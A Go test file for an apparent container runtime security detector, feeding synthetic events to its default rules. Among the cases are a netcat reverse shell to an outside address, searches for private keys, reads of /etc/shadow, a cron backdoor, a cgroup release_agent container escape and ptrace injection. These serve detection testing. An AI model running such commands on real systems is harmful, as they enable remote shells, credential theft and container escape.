package rules_test

import (
	"net/netip"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/vigilsec/vigil/pkg/event"
	vrules "github.com/vigilsec/vigil/pkg/rules"
	"github.com/vigilsec/vigil/rules"
)

// Synthetic events shaped the way the state and enrich stages fill them, one
// per behaviour the default rules must catch, plus benign look-alikes that
// must raise nothing. Evaluation follows `rule_matching: first`: the first
// enabled rule in definition order that matches names the alert.

type world struct{ num uint64 }

func process(pid uint32, name, exe string, parent *event.Process, args ...string) *event.Process {
	p := &event.Process{Pid: pid, Name: name, Exe: exe, ExePath: exe, Args: args, Cwd: "/srv",
		StartTS: 1_700_000_000_000_000_000, SID: pid, Parent: parent}
	if parent != nil {
		p.PPid = parent.Pid
	}
	return p
}

// Process trees: a host login shell, and a container whose entry point is a
// web server.
var (
	hostInit  = process(1, "systemd", "/usr/lib/systemd/systemd", nil)
	hostSSHD  = process(400, "sshd", "/usr/sbin/sshd", hostInit)
	hostShell = process(500, "bash", "/usr/bin/bash", hostSSHD)
	shim      = process(900, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", hostInit)
	ctrNginx  = process(1000, "nginx", "/usr/sbin/nginx", shim, "-g", "daemon off;")
)

const ownPodUID = "6f1c2a8e-1111-4d7e-9a55-0123456789ab"

func acmePod() *event.Metadata {
	return &event.Metadata{ContainerID: "0123456789ab", ContainerName: "web", Image: "registry.acme.io/shop/web:1.4",
		ImageRepository: "registry.acme.io/shop/web", ImageTag: "1.4", PodName: "web-5c8d", PodUID: ownPodUID,
		Namespace: "acme-shop", Tenant: "acme", Node: "node-1", Complete: true}
}

func hostMeta() *event.Metadata {
	return &event.Metadata{ContainerID: "host", Node: "node-1", Complete: true}
}

func (w *world) event(t event.Type, p *event.Process, meta *event.Metadata) *event.Event {
	w.num++
	ev := &event.Event{Num: w.num, Type: t, Timestamp: 1_700_000_100_000_000_000, Comm: p.Name, Proc: p, Meta: meta, LoginUID: 0xffffffff}
	ev.Pid, ev.Tid, ev.PPid = p.Pid, p.Pid, p.PPid
	return ev
}

func (w *world) exec(p *event.Process, meta *event.Metadata) *event.Event {
	ev := w.event(event.TypeExecve, p, meta)
	ev.Args.Path, ev.Args.ExePath = p.ExePath, p.ExePath
	ev.Args.Argv = append([]string{p.Exe}, p.Args...)
	ev.Args.ExeFromMemfd, ev.Args.ExeUpperLayer = p.ExeFromMemfd, p.ExeUpperLayer
	return ev
}

func (w *world) open(p *event.Process, meta *event.Metadata, path string, flags uint64, typ event.FDType) *event.Event {
	ev := w.event(event.TypeOpenat, p, meta)
	ev.Args.Path, ev.Args.ResolvedPath, ev.Args.Flags, ev.Args.DirFd = path, path, flags, unix.AT_FDCWD
	ev.Ret = 7
	ev.FD = &event.FD{Num: 7, Type: typ, Name: path, NameRaw: path, OpenFlags: flags}
	return ev
}

func (w *world) connect(p *event.Process, meta *event.Metadata, remote string, peer *event.Peer) *event.Event {
	ev := w.event(event.TypeConnect, p, meta)
	r := netip.MustParseAddrPort(remote)
	ev.Args.Fd = 5
	ev.Args.Addr = event.Sockaddr{Family: event.AFInet, Addr: r.Addr(), Port: r.Port()}
	ev.FD = &event.FD{Num: 5, Type: event.FDIPv4, Domain: unix.AF_INET, SockType: unix.SOCK_STREAM, Protocol: unix.IPPROTO_TCP,
		Local: netip.MustParseAddrPort("10.1.0.5:40000"), Remote: r, Connected: true, NameChanged: true}
	ev.Peer = peer
	return ev
}

func (w *world) link(t event.Type, p *event.Process, target, linkpath string) *event.Event {
	ev := w.event(t, p, hostMeta())
	ev.Args.Path, ev.Args.Path2 = target, linkpath
	ev.Args.ResolvedPath, ev.Args.ResolvedPath2 = target, linkpath
	ev.Args.DirFd, ev.Args.DirFd2 = unix.AT_FDCWD, unix.AT_FDCWD
	return ev
}

func (w *world) ptrace(p *event.Process, request int64) *event.Event {
	ev := w.event(event.TypePtrace, p, hostMeta())
	ev.Args.Request, ev.Args.TargetPid = request, 4242
	return ev
}

// behaviourCase is one event and the rule it must raise ("" for none).
type behaviourCase struct {
	name string
	ev   *event.Event
	want string
}

// behaviourCases builds the events of the behaviour table.
func behaviourCases() []behaviourCase {
	w := &world{}
	withTTY := func(p *event.Process) *event.Process { p.TTY = 34816; return p }
	memfd := process(1300, "3", "memfd:payload (deleted)", hostShell)
	memfd.ExeFromMemfd = true
	dropped := process(1301, "xmrig", "/tmp/xmrig", ctrNginx)
	dropped.ExeUpperLayer = true
	privileged := acmePod()
	escape := func() *event.Event {
		ev := w.open(process(1302, "sh", "/bin/sh", ctrNginx), privileged, "/sys/fs/cgroup/rdma/release_agent", unix.O_WRONLY, event.FDFile)
		ev.CapEffective = 1<<unix.CAP_SYS_ADMIN | 1<<unix.CAP_DAC_OVERRIDE // the thread's, as the kernel records them
		return ev
	}

	return []behaviourCase{
		// Processes.
		{"kubectl exec -it sh", w.exec(withTTY(process(1100, "sh", "/bin/sh", shim)), acmePod()), "Interactive shell in container"},
		{"web server spawns a shell", w.exec(process(1101, "sh", "/bin/sh", ctrNginx, "-c", "id"), acmePod()), "Shell spawned by a server process"},
		{"grep for private keys", w.exec(process(1102, "grep", "/usr/bin/grep", hostShell, "-r", "BEGIN RSA PRIVATE KEY", "/home"), hostMeta()), "Search for credentials"},
		{"find id_rsa", w.exec(process(1103, "find", "/usr/bin/find", hostShell, "/", "-name", "id_rsa"), hostMeta()), "Search for credentials"},
		{"exec from /dev/shm", w.exec(process(1104, "x", "/dev/shm/x", hostShell), hostMeta()), "Program executed from shared memory"},
		{"shell runs /dev/shm script", w.exec(process(1105, "sh", "/bin/sh", hostShell, "/dev/shm/run.sh"), hostMeta()), "Program executed from shared memory"},
		{"exec from memfd", w.exec(memfd, hostMeta()), "Fileless program execution"},
		{"dropped binary in container", w.exec(dropped, acmePod()), "Dropped binary executed in container"},
		{"netcat reverse shell", w.exec(process(1106, "nc", "/usr/bin/nc", ctrNginx, "-e", "/bin/sh", "203.0.113.9", "4444"), acmePod()), "Remote shell tool started in container"},
		{"netcat -e from a shell", w.exec(process(1107, "nc", "/usr/bin/nc", process(1108, "bash", "/bin/bash", shim), "-e", "/bin/sh", "203.0.113.9", "4444"), acmePod()), "Remote shell tool started in container"},
		// Files.
		{"cat /etc/shadow", w.open(process(1200, "cat", "/usr/bin/cat", hostShell), hostMeta(), "/etc/shadow", unix.O_RDONLY, event.FDFile), "Sensitive file read by unexpected program"},
		{"read sudoers.d", w.open(process(1201, "less", "/usr/bin/less", hostShell), hostMeta(), "/etc/sudoers.d/admins", unix.O_RDONLY, event.FDFile), "Sensitive file read by unexpected program"},
		{"plant a binary", w.open(process(1202, "cp", "/usr/bin/cp", hostShell), hostMeta(), "/usr/bin/sudo2", unix.O_WRONLY|unix.O_CREAT, event.FDFile), "Write below binary directory"},
		{"cron persistence", w.open(process(1203, "tee", "/usr/bin/tee", hostShell), hostMeta(), "/etc/cron.d/backdoor", unix.O_WRONLY|unix.O_CREAT, event.FDFile), "Write below /etc directory"},
		{"truncate auth.log", w.open(process(1204, "bash", "/usr/bin/bash", hostShell), hostMeta(), "/var/log/auth.log", unix.O_WRONLY|unix.O_TRUNC, event.FDFile), "Log file cleared"},
		{"release_agent escape", escape(), "Container escape through cgroup release_agent"},
		{"release_agent without CAP_SYS_ADMIN", w.open(process(1303, "sh", "/bin/sh", ctrNginx), privileged, "/sys/fs/cgroup/rdma/release_agent", unix.O_WRONLY, event.FDFile), ""},
		{"symlink to shadow", w.link(event.TypeSymlinkat, hostShell, "/etc/shadow", "/tmp/s"), "Symlink to sensitive file"},
		{"hardlink to shadow", w.link(event.TypeLinkat, hostShell, "/etc/shadow", "/tmp/h"), "Hardlink to sensitive file"},
		// Tenancy.
		{"other pod's secret via host path", w.open(process(1205, "cat", "/bin/cat", ctrNginx), acmePod(),
			"/var/lib/kubelet/pods/9d0e7b1c-2222-4abc-8def-fedcba987654/volumes/kubernetes.io~secret/db/password", unix.O_RDONLY, event.FDFile),
			"Host path access to another pod's volumes"},
		{"list other pod's volumes", w.open(process(1206, "ls", "/bin/ls", ctrNginx), acmePod(),
			"/var/lib/kubelet/pods/9d0e7b1c-2222-4abc-8def-fedcba987654/volumes/", unix.O_RDONLY|unix.O_DIRECTORY, event.FDDirectory),
			"Host path access to another pod's volumes"},
		{"connect to another tenant's pod", w.connect(process(1207, "curl", "/usr/bin/curl", ctrNginx), acmePod(), "10.2.3.4:5432",
			&event.Peer{PodName: "db-0", Namespace: "globex-prod", Tenant: "globex"}), "Connection to another tenant's pod"},
		// Network.
		{"ssh on port 443", w.connect(process(1300, "ssh", "/usr/bin/ssh", hostShell, "-p", "443", "203.0.113.7"), hostMeta(), "203.0.113.7:443", nil), "SSH connection to non-standard port"},
		{"pod talks to the API server", w.connect(process(1301, "python3", "/usr/bin/python3", ctrNginx), acmePod(), "10.96.0.1:443", nil), "Kubernetes API contacted from container"},
		// Kernel and other processes.
		{"insmod", func() *event.Event {
			ev := w.event(event.TypeFinitModule, process(1400, "insmod", "/usr/sbin/insmod", hostShell, "rootkit.ko"), hostMeta())
			ev.Args.Fd = 3
			return ev
		}(), "Kernel module loaded"},
		{"ptrace attach", w.ptrace(process(1401, "inject", "/tmp/inject", hostShell), unix.PTRACE_ATTACH), "Process attached with ptrace"},
		{"ptrace poke", w.ptrace(process(1402, "inject", "/tmp/inject", hostShell), unix.PTRACE_POKETEXT), "Process attached with ptrace"},
		{"ptrace traceme", w.ptrace(process(1403, "packed", "/tmp/packed", hostShell), unix.PTRACE_TRACEME), "Anti-debugging with ptrace"},
		{"packet socket in container", func() *event.Event {
			ev := w.event(event.TypeSocket, process(1404, "sniff", "/usr/bin/sniff", ctrNginx), acmePod())
			ev.Args.Domain, ev.Args.SockType, ev.Ret = unix.AF_PACKET, unix.SOCK_RAW, 3
			return ev
		}(), "Packet socket opened in container"},
		{"stdin to a socket", func() *event.Event {
			ev := w.event(event.TypeDup2, process(1405, "bash", "/bin/bash", ctrNginx), acmePod())
			ev.Args.Fd, ev.Args.Fd2, ev.Ret = 5, 0, 0
			ev.FD = &event.FD{Num: 5, Type: event.FDIPv4, Domain: unix.AF_INET, SockType: unix.SOCK_STREAM, Protocol: unix.IPPROTO_TCP,
				Local: netip.MustParseAddrPort("10.1.0.5:40000"), Remote: netip.MustParseAddrPort("203.0.113.9:4444"), Connected: true}
			return ev
		}(), "Standard stream redirected to network socket"},

		// Benign look-alikes: nothing fires.
		{"ls on the host", w.exec(process(1500, "ls", "/usr/bin/ls", hostShell, "-la"), hostMeta()), ""},
		{"go build", w.exec(process(1501, "go", "/usr/local/go/bin/go", hostShell, "build", "./..."), hostMeta()), ""},
		{"shell script on the host", w.exec(process(1502, "sh", "/bin/sh", hostShell, "./build.sh"), hostMeta()), ""},
		{"non-interactive shell in container", w.exec(process(1503, "sh", "/bin/sh", shim, "-c", "date"), acmePod()), ""},
		{"grep for a user", w.exec(process(1504, "grep", "/usr/bin/grep", hostShell, "alice", "/etc/passwd"), hostMeta()), ""},
		{"read /etc/passwd", w.open(process(1505, "cat", "/usr/bin/cat", hostShell), hostMeta(), "/etc/passwd", unix.O_RDONLY, event.FDFile), ""},
		{"sshd reads shadow", w.open(process(1506, "sshd", "/usr/sbin/sshd", hostSSHD), hostMeta(), "/etc/shadow", unix.O_RDONLY, event.FDFile), ""},
		{"append to a log", w.open(process(1507, "app", "/srv/app", hostShell), hostMeta(), "/var/log/app.log", unix.O_WRONLY|unix.O_APPEND, event.FDFile), ""},
		{"dpkg installs a binary", w.open(process(1508, "dpkg", "/usr/bin/dpkg", process(1509, "apt-get", "/usr/bin/apt-get", hostShell)), hostMeta(), "/usr/bin/jq", unix.O_WRONLY|unix.O_CREAT, event.FDFile), ""},
		{"own pod's volume", w.open(process(1510, "cat", "/bin/cat", ctrNginx), acmePod(),
			"/var/lib/kubelet/pods/"+ownPodUID+"/volumes/kubernetes.io~configmap/cfg/app.yaml", unix.O_RDONLY, event.FDFile), ""},
		{"same-tenant connection", w.connect(process(1511, "curl", "/usr/bin/curl", ctrNginx), acmePod(), "10.2.3.5:8080",
			&event.Peer{PodName: "api-0", Namespace: "acme-api", Tenant: "acme"}), ""},
		{"connection to a pod without tenant", w.connect(process(1512, "curl", "/usr/bin/curl", ctrNginx), acmePod(), "10.2.3.6:53",
			&event.Peer{PodName: "coredns-1", Namespace: "kube-system"}), ""},
		{"ssh on port 22", w.connect(process(1513, "ssh", "/usr/bin/ssh", hostShell), hostMeta(), "203.0.113.7:22", nil), ""},
		{"symlink to a temp file", w.link(event.TypeSymlinkat, hostShell, "/tmp/a", "/tmp/b"), ""},
		{"ptrace peek", w.ptrace(process(1514, "gdb", "/usr/bin/gdb", hostShell), unix.PTRACE_PEEKDATA), ""},
		{"host packet socket", func() *event.Event {
			ev := w.event(event.TypeSocket, process(1515, "dhclient", "/usr/sbin/dhclient", hostInit), hostMeta())
			ev.Args.Domain, ev.Args.SockType, ev.Ret = unix.AF_PACKET, unix.SOCK_RAW, 3
			return ev
		}(), ""},
	}
}

func TestBehaviours(t *testing.T) {
	rs, _, err := vrules.Load(rules.DefaultFiles()...)
	if err != nil {
		t.Fatal(err)
	}
	tests := behaviourCases()
	ev := vrules.NewEvaluator(vrules.EvalOptions{Hostname: "node-1"})
	for _, tt := range tests {
		got := ""
		ev.Begin(rs, tt.ev)
		for _, r := range rs.Rules() {
			if !r.MatchesType(tt.ev.Type) {
				continue
			}
			ok, err := ev.Match(r)
			if err != nil {
				t.Fatalf("%s: %v", tt.name, err)
			}
			if ok {
				got = r.Name
				break
			}
		}
		if got != tt.want {
			t.Errorf("%s: rule %q, want %q", tt.name, got, tt.want)
			continue
		}
		if got == "" {
			continue
		}
		// The workload fields every output ends with are filled in.
		_, fields := ev.Format(ruleNamed(rs, got), tt.ev)
		if tt.ev.Meta != nil && tt.ev.Meta.ContainerID != "host" {
			for _, f := range []string{"tenant.name", "k8s.ns.name", "k8s.pod.name", "container.id"} {
				if fields[f] == nil {
					t.Errorf("%s: output field %s missing", tt.name, f)
				}
			}
		}
	}
}

func ruleNamed(rs *vrules.Ruleset, name string) *vrules.Rule {
	for _, r := range rs.Rules() {
		if r.Name == name {
			return r
		}
	}
	return nil
}
